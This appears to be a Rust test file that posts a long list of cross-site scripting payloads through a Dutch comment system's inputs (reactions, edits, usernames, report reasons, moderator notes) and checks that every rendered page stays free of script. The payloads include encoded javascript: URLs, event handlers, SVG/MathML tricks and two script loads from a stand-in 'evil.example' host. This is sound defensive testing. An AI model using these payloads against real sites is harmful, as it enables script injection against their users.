//! Cross-site scripting: a long list of attack strings goes through every place
//! where a reader's text reaches a page (reaction text, an own edit, a username
//! at registration, a report reason, the author's edit and note), and every
//! resulting page is parsed and checked for active content.

use std::collections::HashSet;

use reqwest::StatusCode;
use scraper::{ElementRef, Html};

use crate::helpers::{Browser, PASSWORD, SLUG, TestApp, select, texts};

/// Attack strings: script tags, event handlers, dangerous URL schemes (plain,
/// entity-encoded, split by whitespace), SVG and MathML, Markdown links,
/// broken tags, attribute breakers, styles and template syntax.
const PAYLOADS: &[&str] = &[
    // Script tags in many spellings.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script\t>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    r#"<script src="data:text/javascript,alert(1)"></script>"#,
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<script\0>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "</script><script>alert(1)</script>",
    r#"<script type="module">import('//evil.example/x.js')</script>"#,
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
    "<scr\u{200b}ipt>alert(1)</script>",
    "\u{202e}<script>alert(1)</script>",
    // Event handler attributes.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    r#"<img src=x onerror="alert(1)"//"#,
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    r#"<img src="x" onerror="&#97;lert(1)">"#,
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src=x onerror=alert(1)",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    r#"<div onmouseover="alert(1)">hover</div>"#,
    "<a onmouseover=alert(1)>x</a>",
    r#"<a href="https://example.nl" onclick="alert(1)">x</a>"#,
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe onload=alert(1)></iframe>",
    "<object onerror=alert(1)></object>",
    "<x onclick=alert(1)>klik</x>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<button onclick=alert(1)>knop</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<style onload=alert(1)></style>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    // Dangerous URL schemes, also entity-encoded and split by whitespace.
    r#"<a href="javascript:alert(1)">x</a>"#,
    r#"<a href="JaVaScRiPt:alert(1)">x</a>"#,
    r#"<a href=" javascript:alert(1)">x</a>"#,
    r#"<a href="&#106;avascript:alert(1)">x</a>"#,
    r#"<a href="&#x6A;avascript:alert(1)">x</a>"#,
    r#"<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>"#,
    r#"<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>"#,
    r#"<a href="java&#x09;script:alert(1)">x</a>"#,
    r#"<a href="java&#x0A;script:alert(1)">x</a>"#,
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    r#"<a href="javascript&colon;alert(1)">x</a>"#,
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"javascript\0:alert(1)\">x</a>",
    r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
    r#"<a href="data:text/html,<script>alert(1)</script>">x</a>"#,
    r#"<a href="vbscript:msgbox(1)">x</a>"#,
    r#"<a href="VBScript:msgbox(1)">x</a>"#,
    r#"<iframe src="javascript:alert(1)"></iframe>"#,
    r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#,
    r#"<object data="javascript:alert(1)"></object>"#,
    r#"<embed src="javascript:alert(1)">"#,
    r#"<form action="javascript:alert(1)"><input type=submit></form>"#,
    r#"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"#,
    r#"<base href="javascript:alert(1)//">"#,
    r#"<link rel=stylesheet href="javascript:alert(1)">"#,
    r#"<link rel="import" href="data:text/html,<script>alert(1)</script>">"#,
    r#"<img srcset="javascript:alert(1) 1x">"#,
    "<video poster=javascript:alert(1)></video>",
    r#"<table background="javascript:alert(1)"><tr><td>x</td></tr></table>"#,
    // SVG and MathML.
    "<svg><script>alert(1)</script></svg>",
    r#"<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>"#,
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    r#"<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknIC8+PC9zdmc+#x"></use></svg>"#,
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    r#"<math href="javascript:alert(1)">x</math>"#,
    r#"<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>"#,
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    // Markdown links, autolinks, reference links and images.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#0000106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\njavascript:alert(1))",
    r#"[x](javascript:alert(1) "titel")"#,
    "[x](javascript://example.nl/%0Aalert(1))",
    "[x](javas%63ript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/)",
    "<javascript:alert(1)>",
    "<JavaScript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <javascript:alert(1)> \"titel\"",
    "[r]\n\n[r]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[x][]\n\n[x]: &#106;avascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    r#"![x" onerror="alert(1)](https://example.nl/x.png)"#,
    r#"![x](https://example.nl/x.png" onerror="alert(1))"#,
    r#"[x](https://example.nl/"onmouseover="alert(1))"#,
    r#"[x](https://example.nl "titel\" onmouseover=\"alert(1)")"#,
    r#"[x](mailto:a@b.nl"onmouseover="alert(1))"#,
    r#"<http://example.nl/"onmouseover="alert(1)>"#,
    "[<img src=x onerror=alert(1)>](https://example.nl)",
    "[x](https://example.nl)<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "**<script>**alert(1)**</script>**",
    "# <svg onload=alert(1)>",
    // Broken and nested tags, attribute-breaking quotes.
    r#""><script>alert(1)</script>"#,
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    r#"" onmouseover="alert(1)"#,
    "' onfocus='alert(1)' autofocus='",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    r#"<img """><script>alert(1)</script>">"#,
    r#"<a href="https://example.nl"<script>alert(1)</script>>x</a>"#,
    "<div <img src=x onerror=alert(1)>>",
    "<a href=https://example.nl/ title=x><<img src=x onerror=alert(1)>>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    // Styles.
    r#"<p style="background:url(javascript:alert(1))">x</p>"#,
    r#"<div style="width:expression(alert(1))">x</div>"#,
    r#"<style>body{background:url("javascript:alert(1)")}</style>"#,
    "<style>@import 'javascript:alert(1)';</style>",
    // Template syntax.
    "{{7*7}}",
    "{% raw %}{{ user }}{% endraw %}",
    "${7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 7*7 %>",
    "{{ body|safe }}",
    "#{7*7}",
    "{# opmerking #}{%- if true -%}x{%- endif -%}",
];

/// Payloads posted before each page check.
const BATCH: usize = 40;

/// Attributes that take a URL a browser may follow or load.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "srcset",
];

const DANGEROUS_SCHEMES: &[&str] = &["javascript:", "data:", "vbscript:"];

/// Elements that must not appear in the page content; `base` and an
/// `http-equiv` meta must not appear anywhere.
const FORBIDDEN: &str = "main iframe, main object, main embed, main svg, main math, \
     main style, main link, main [style], base, meta[http-equiv]";

/// Whether a URL attribute would run or load something: browsers ignore
/// surrounding space, case and embedded tabs and newlines in a scheme.
fn dangerous_url(attribute: &str, value: &str) -> bool {
    let candidates: Vec<&str> = if attribute == "srcset" {
        value.split(',').collect()
    } else {
        vec![value]
    };
    candidates.into_iter().any(|candidate| {
        let squashed: String = candidate
            .trim()
            .chars()
            .filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control())
            .collect::<String>()
            .to_lowercase();
        DANGEROUS_SCHEMES
            .iter()
            .any(|scheme| squashed.starts_with(scheme))
    })
}

fn snippet(element: &ElementRef) -> String {
    element.html().chars().take(200).collect()
}

/// Everything on a page that could run script, described for the failure message.
fn active_content(html: &Html) -> Vec<String> {
    let mut problems = Vec::new();
    for element in select(html, "*") {
        let el = element.value();
        // A JSON-LD data block is never run; it is inert as long as nothing in
        // it could end the element (`reach::jsonld` escapes every `<`).
        let data_block = el.attr("type") == Some("application/ld+json")
            && !element.text().collect::<String>().contains('<');
        if el.name() == "script"
            && !data_block
            && !el.attr("src").is_some_and(|s| s.starts_with("/static/"))
        {
            problems.push(format!("script element: {}", snippet(&element)));
        }
        for (name, value) in el.attrs() {
            let name = name.to_ascii_lowercase();
            if name.starts_with("on") {
                problems.push(format!("event handler {name}: {}", snippet(&element)));
            }
            if URL_ATTRIBUTES.contains(&name.as_str()) && dangerous_url(&name, value) {
                problems.push(format!("dangerous {name}: {}", snippet(&element)));
            }
        }
    }
    for element in select(html, FORBIDDEN) {
        problems.push(format!("forbidden element: {}", snippet(&element)));
    }
    problems
}

/// Parses a page and asserts that nothing on it is active; returns the page.
fn inert_page(body: &str, page: &str) -> Html {
    let html = Html::parse_document(body);
    let problems = active_content(&html);
    assert!(
        problems.is_empty(),
        "active content on {page}:\n{}",
        problems.join("\n")
    );
    html
}

async fn inert_get(browser: &Browser, path: &str) -> Html {
    inert_page(&browser.get_html(path).await, path)
}

/// What an HTML parser makes of text: NUL characters do not survive.
fn as_parsed(text: &str) -> String {
    text.trim().replace('\0', "")
}

/// The payloads with their index, in batches.
fn batches() -> Vec<Vec<(usize, &'static str)>> {
    let numbered: Vec<(usize, &str)> = PAYLOADS.iter().copied().enumerate().collect();
    numbered.chunks(BATCH).map(<[_]>::to_vec).collect()
}

/// A server that publishes every reaction at once, however many links it has.
async fn open_app() -> TestApp {
    let app = TestApp::spawn_open().await;
    app.set("UPDATE settings SET hold_min_links = 0").await;
    app
}

/// All payload reactions go into one thread, so they share one page however many
/// there are (50 threads fit on a page).
async fn thread(browser: &Browser) -> i64 {
    browser.react_any("Hier begint de draad.", None).await
}

/// The rendered text of the reaction with this id.
fn reaction_text(html: &Html, id: i64) -> String {
    let found = texts(html, &format!("li#reactie-{id} > article.reactie .tekst"));
    assert_eq!(found.len(), 1, "reaction {id} is shown once");
    found.into_iter().next().expect("one reaction")
}

/// The payload in inline and in block position, behind a marker that must show.
fn body(marker: &str, index: usize, payload: &str) -> String {
    format!("{marker}{index} {payload}\n\n{payload}")
}

#[test]
fn the_payload_list_is_long_and_has_no_duplicates() {
    assert!(PAYLOADS.len() >= 100, "only {} payloads", PAYLOADS.len());
    let distinct: HashSet<&str> = PAYLOADS.iter().copied().collect();
    assert_eq!(distinct.len(), PAYLOADS.len(), "duplicate payloads");
}

#[test]
fn the_checker_itself_catches_active_content() {
    let page = Html::parse_document(
        "<main><a href=\" Java\tScript:alert(1)\">x</a><p onclick=x>y</p>\
         <script>alert(1)</script><iframe></iframe><img srcset=\"a.png 1x, data:x 2x\"></main>",
    );
    let problems = active_content(&page);
    assert_eq!(problems.len(), 5, "{problems:#?}");
    let clean = Html::parse_document(
        "<main><a href=\"https://example.nl/\">x</a><script src=\"/static/x.js\"></script></main>",
    );
    assert!(active_content(&clean).is_empty());
}

#[tokio::test]
async fn xss_payloads_as_reaction_texts_show_as_inert_text_on_the_article_page() {
    let app = open_app().await;
    let reader = app.reader("lezer").await;
    let thread = thread(&reader).await;
    let visitor = app.browser();
    let mut posted = Vec::new();

    for batch in batches() {
        for (index, payload) in batch {
            let id = reader
                .react_any(&body("P", index, payload), Some(thread))
                .await;
            posted.push((index, id));
        }
        let html = inert_get(&visitor, &format!("/{SLUG}")).await;

        assert_eq!(
            select(&html, "#reacties .reactie .tekst").len(),
            posted.len() + 1,
            "every posted reaction is shown"
        );
        for &(index, id) in &posted {
            let text = reaction_text(&html, id);
            assert!(
                text.starts_with(&format!("P{index} ")),
                "reaction {index} shows its text: {text:?}"
            );
        }
    }
    // Raw HTML is shown as the text that was typed.
    let html = inert_get(&reader, &format!("/{SLUG}")).await;
    let (_, first) = posted[0];
    assert!(
        reaction_text(&html, first).contains("<script>alert(1)</script>"),
        "the script tag shows as text"
    );
}

#[tokio::test]
async fn xss_payloads_in_an_edit_of_an_own_reaction_show_as_inert_text() {
    let app = open_app().await;
    let reader = app.reader("lezer").await;
    let thread = thread(&reader).await;
    let visitor = app.browser();
    let mut edited = Vec::new();

    for batch in batches() {
        for (index, payload) in batch {
            let id = reader
                .react_any(&format!("Eerste versie {index}"), Some(thread))
                .await;
            let response = reader
                .post(
                    &format!("/reacties/{id}/bewerken"),
                    &[("body", &body("E", index, payload))],
                )
                .await;
            assert_eq!(response.status(), StatusCode::SEE_OTHER, "edit {index}");
            edited.push((index, id));
        }
        let html = inert_get(&visitor, &format!("/{SLUG}")).await;

        assert_eq!(
            select(&html, "#reacties .reactie .tekst").len(),
            edited.len() + 1
        );
        for &(index, id) in &edited {
            let text = reaction_text(&html, id);
            assert!(
                text.starts_with(&format!("E{index} ")),
                "reaction {index} shows its edited text: {text:?}"
            );
        }
    }
}

#[tokio::test]
async fn xss_payloads_as_usernames_come_back_inert_in_the_registration_form() {
    let app = open_app().await;

    for payload in PAYLOADS {
        let browser = app.browser();
        let response = browser.register(payload, PASSWORD).await;
        let status = response.status();

        if status == StatusCode::SEE_OTHER {
            // Accepted as a name: it shows in the header of every page.
            inert_get(&browser, &format!("/{SLUG}")).await;
            continue;
        }
        assert!(status.is_client_error(), "{payload:?}: got {status}");
        let html = inert_page(
            &response.text().await.expect("body"),
            &format!("/registreren with {payload:?}"),
        );
        let typed = select(&html, "#registreren-naam")
            .first()
            .and_then(|input| input.value().attr("value"))
            .map(str::to_owned);
        assert_eq!(
            typed,
            Some(payload.replace('\0', "\u{fffd}")),
            "the typed name is back in the form"
        );
    }
}

#[tokio::test]
async fn xss_payloads_in_reactions_and_report_reasons_are_inert_in_the_queue() {
    let app = open_app().await;
    let author = app.author().await;
    let writer = app.reader("schrijver").await;
    let reporter = app.reader("melder").await;
    let mut expected = Vec::new();

    for batch in batches() {
        for (index, payload) in batch {
            let id = writer.react_any(&body("Q", index, payload), None).await;
            let reason = format!("R{index} {payload}");
            let response = reporter
                .post(&format!("/reacties/{id}/melden"), &[("reden", &reason)])
                .await;
            assert_eq!(response.status(), StatusCode::SEE_OTHER, "report {index}");
            // Stored cleaned: no control characters or bidi overrides.
            let stored = reacties::text::clean(&reason);
            expected.push(format!("melder: {}", as_parsed(&stored)));
        }
        let html = inert_get(&author, "/moderatie").await;

        assert_eq!(
            select(&html, "ol.wachtrij > li").len(),
            expected.len(),
            "every reported reaction is in the queue"
        );
        let mut shown = texts(&html, ".meldingen li");
        shown.sort();
        let mut want = expected.clone();
        want.sort();
        assert_eq!(shown, want, "every reason shows as typed");
    }
}

#[tokio::test]
async fn xss_payloads_in_the_authors_edit_and_note_are_inert_in_the_log_and_the_article() {
    let app = open_app().await;
    let author = app.author().await;
    let reader = app.reader("lezer").await;
    let thread = thread(&reader).await;
    let visitor = app.browser();
    let mut edited = Vec::new();
    let mut notes = Vec::new();

    for batch in batches() {
        for (index, payload) in batch {
            let id = reader
                .react_any(&format!("Origineel {index}"), Some(thread))
                .await;
            let note = format!("N{index} {payload}");
            let response = author
                .post(
                    &format!("/moderatie/reacties/{id}/bewerken"),
                    &[
                        ("body", &body("M", index, payload)),
                        ("note", &note),
                        ("terug", "/moderatie"),
                    ],
                )
                .await;
            assert_eq!(response.status(), StatusCode::SEE_OTHER, "edit {index}");
            edited.push((index, id));
            // A note is one line, cleaned like every typed text.
            notes.push(as_parsed(&reacties::text::clean_line(&note)));
        }
        let log = inert_get(&author, "/moderatie/logboek").await;
        let article = inert_get(&visitor, &format!("/{SLUG}")).await;

        let mut shown = texts(&log, ".logboek p.meta");
        shown.sort();
        let mut want = notes.clone();
        want.sort();
        assert_eq!(shown, want, "every note shows as typed");
        assert_eq!(
            select(&article, "#reacties .reactie .tekst").len(),
            edited.len() + 1
        );
        for &(index, id) in &edited {
            let text = reaction_text(&article, id);
            assert!(
                text.starts_with(&format!("M{index} ")),
                "reaction {index} shows the author's text: {text:?}"
            );
        }
    }
    // The author's own view, with the moderation buttons, is inert too.
    inert_get(&author, &format!("/{SLUG}")).await;
}

#[tokio::test]
async fn xss_payloads_in_a_refused_reaction_come_back_inert_in_the_form() {
    let app = open_app().await;
    let reader = app.reader("lezer").await;
    let padding = "x".repeat(5000);

    for payload in PAYLOADS {
        let long = format!("{payload}{padding}");
        let response = reader.post_reaction(&long, None).await;

        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
        let html = inert_page(
            &response.text().await.expect("body"),
            &format!("refused reaction {payload:?}"),
        );
        assert_eq!(
            texts(&html, "#reageer textarea"),
            [long.trim().replace('\0', "\u{fffd}")],
            "the text is back in the form"
        );
    }
}
